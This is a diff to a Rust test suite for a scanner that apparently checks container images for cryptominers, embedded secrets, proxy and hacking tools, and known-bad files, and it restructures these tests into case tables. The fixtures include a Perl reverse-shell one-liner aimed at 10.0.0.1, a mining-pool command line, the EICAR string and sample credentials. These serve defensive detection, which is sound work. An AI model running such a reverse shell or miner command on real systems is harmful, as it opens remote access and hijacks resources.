@@ -51,11 +51,10 @@ fn check(cases: &[Case]) {
     );
 }
 
-#[test]
-fn cryptomining() {
+fn cryptomining_cases() -> Vec<Case> {
     let wallet = make::monero(18, 1);
     let sub = make::monero(42, 2);
-    check(&[
+    vec![
         case(
             "stratum_url",
             "start.sh",
@@ -122,15 +121,14 @@ fn cryptomining() {
         ),
         case("miner_command_line", "config.Cmd", ConfigField, "./sys -a rx/0 -o pool:443", Some(High)),
         case("miner_command_line", "entry.sh", Script, "#!/bin/sh\nexec ./app --donate 1\n", None),
-    ]);
+    ]
 }
 
-#[test]
-fn embedded_keys_tokens() {
+fn embedded_keys_tokens_cases() -> Vec<Case> {
     let ghp = make::token("ghp_", 11);
     let npm = make::token("npm_", 12);
     let fine: String = (0..4).map(|i| make::token("", 40 + i)).collect();
-    check(&[
+    vec![
         case("github_token", "app/.env", Text, format!("GITHUB_TOKEN={ghp}\n"), Some(High)),
         case(
             "github_token",
@@ -244,12 +242,11 @@ fn embedded_keys_tokens() {
             format!("T=github_pat_{}_{}\n", "A".repeat(22), "b".repeat(59)),
             None,
         ),
-    ]);
+    ]
 }
 
-#[test]
-fn embedded_keys_aws() {
-    check(&[
+fn embedded_keys_aws_cases() -> Vec<Case> {
+    vec![
         case("aws_access_key_id", "app/settings.py", Text, "KEY = 'AKIAY34FZKBOKMUTVV7A'\n", Some(Medium)),
         case(
             "aws_access_key_id",
@@ -262,22 +259,25 @@ fn embedded_keys_aws() {
         case("aws_access_key_id", "x.txt", Text, "AIDAY34FZKBOKMUTVV7A is a user id", None),
         case("aws_access_key_id", "x.txt", Text, "AKIAY34FZKBOKMUTVV71 has a 1", None),
         case("aws_access_key_id", "x.txt", Text, "XAKIAY34FZKBOKMUTVV7AX", None),
-    ]);
+    ]
+}
+
+#[test]
+fn aws_account_ids_are_decoded_offline() {
     let m = crate::scan("app/settings.py", b"KEY = 'ASIAY34FZKBOKMUTVV7A'\n");
     let m = m.iter().find(|m| &*m.rule == "aws_access_key_id").expect("aws match");
     assert_eq!(m.detail.get("aws_account_id").map(String::as_str), Some("609629065308"));
     assert_eq!(m.preview, "ASIA…7A (len 20)");
 }
 
-#[test]
-fn embedded_keys_files() {
+fn embedded_keys_files_cases() -> Vec<Case> {
     let pem = make::rsa_pem(600, 3);
     let key = make::ssh_line(5);
     let docker = format!(
         r#"{{"auths": {{"https://index.docker.io/v1/": {{"auth": "{}"}}}}}}"#,
         make::b64("builder:S3cr3tPassw0rd!")
     );
-    check(&[
+    vec![
         case("private_key", "root/.ssh/id_rsa", Text, pem.clone(), Some(High)),
         case(
             "private_key",
@@ -405,17 +405,19 @@ fn embedded_keys_files() {
             "REPO=https://user:password@git.example.com/x.git",
             None,
         ),
-    ]);
+    ]
 }
 
-#[test]
-fn proxy_avoidance() {
-    check(&[
+fn proxy_avoidance_cases() -> Vec<Case> {
+    vec![
         case("proxy_tool_binary", "usr/local/bin/frpc", Elf, "\x7fELF", Some(High)),
         case("proxy_tool_binary", "usr/local/bin/gost", Script, "#!/bin/sh", Some(Medium)),
         case("proxy_tool_binary", "usr/local/bin/frpc-helper", Elf, "\x7fELF", None),
         case("tor_binary", "usr/bin/tor", Elf, "\x7fELF", Some(Medium)),
+        case("tor_binary", "usr/bin/tor", Text, "a wrapper script, not the daemon", None),
+        case("tor_binary", "usr/bin/torsocks", Elf, "\x7fELF", None),
         case("proxyware_binary", "app/honeygain", Elf, "\x7fELF", Some(High)),
+        case("proxyware_binary", "app/honeygain.md", Text, "notes on Honeygain", None),
         case(
             "proxy_tool_go_module",
             "app/svc",
@@ -473,16 +475,16 @@ fn proxy_avoidance() {
             Some(High),
         ),
         case("proxy_share_link", "sub.txt", Text, "see vmess:// links\n", None),
-    ]);
+    ]
 }
 
-#[test]
-fn hacking_tools() {
-    check(&[
+fn hacking_tools_cases() -> Vec<Case> {
+    vec![
         case("hacking_tool_binary", "usr/bin/masscan", Elf, "\x7fELF", Some(High)),
         case("hacking_tool_binary", "opt/sqlmap/sqlmap.py", Script, "#!/usr/bin/env python3", Some(High)),
         case("hacking_tool_binary", "usr/bin/masscanner-notes", Elf, "\x7fELF", None),
         case("nmap_binary", "usr/bin/nmap", Elf, "\x7fELF", Some(Medium)),
+        case("nmap_binary", "usr/share/nmap/nmap-services", Text, "http 80/tcp", None),
         case(
             "hacking_tool_strings",
             "config.Cmd",
@@ -535,13 +537,19 @@ fn hacking_tools() {
             r#"perl -e 'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");}'"#,
             Some(High),
         ),
-    ]);
+        case(
+            "reverse_shell_perl",
+            "app/Net.pm",
+            Text,
+            "use Socket;\nmy $sock = IO::Socket::INET->new(PeerAddr => $host);\n",
+            None,
+        ),
+    ]
 }
 
-#[test]
-fn other() {
+fn other_cases() -> Vec<Case> {
     let eicar = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
-    check(&[
+    vec![
         case("known_bad_file", "tmp/eicar.com", Text, eicar, Some(High)),
         case("known_bad_file", "tmp/eicar.com", Text, eicar.replace('X', "Y"), None),
         case(
@@ -573,7 +581,7 @@ fn other() {
             Some(Low),
         ),
         case("download_exec_url", "i.sh", Script, "#!/bin/sh\ncurl -o x https://get.docker.com\n", None),
-    ]);
+    ]
 }
 
 #[test]
@@ -594,4 +602,67 @@ fn hosts() {
     for clean in ["duckdns.org.example.com", "notduckdns.org", "github.com", "org", "", "localhost"] {
         assert!(judge(clean).is_empty(), "{clean}");
     }
+}
+
+#[test]
+fn cryptomining() {
+    check(&cryptomining_cases());
+}
+
+#[test]
+fn embedded_keys_tokens() {
+    check(&embedded_keys_tokens_cases());
+}
+
+#[test]
+fn embedded_keys_aws() {
+    check(&embedded_keys_aws_cases());
+}
+
+#[test]
+fn embedded_keys_files() {
+    check(&embedded_keys_files_cases());
+}
+
+#[test]
+fn proxy_avoidance() {
+    check(&proxy_avoidance_cases());
+}
+
+#[test]
+fn hacking_tools() {
+    check(&hacking_tools_cases());
+}
+
+#[test]
+fn other() {
+    check(&other_cases());
+}
+
+/// Every content and path rule has a table: at least one positive and one near-miss negative.
+/// (Host rules are tabled in `hosts` above.)
+#[test]
+fn every_rule_has_positives_and_near_miss_negatives() {
+    use hubcensus_rules::Trigger;
+    let all: Vec<Case> = [
+        cryptomining_cases(),
+        embedded_keys_tokens_cases(),
+        embedded_keys_aws_cases(),
+        embedded_keys_files_cases(),
+        proxy_avoidance_cases(),
+        hacking_tools_cases(),
+        other_cases(),
+    ]
+    .into_iter()
+    .flatten()
+    .collect();
+    let mut missing = Vec::new();
+    for rule in crate::rules().rules().filter(|r| r.trigger() != Trigger::Host) {
+        let positive = all.iter().any(|c| c.rule == rule.id() && c.want.is_some());
+        let negative = all.iter().any(|c| c.rule == rule.id() && c.want.is_none());
+        if !positive || !negative {
+            missing.push(format!("{} (positive: {positive}, negative: {negative})", rule.id()));
+        }
+    }
+    assert!(missing.is_empty(), "rules without a full table:\n  {}", missing.join("\n  "));
 }
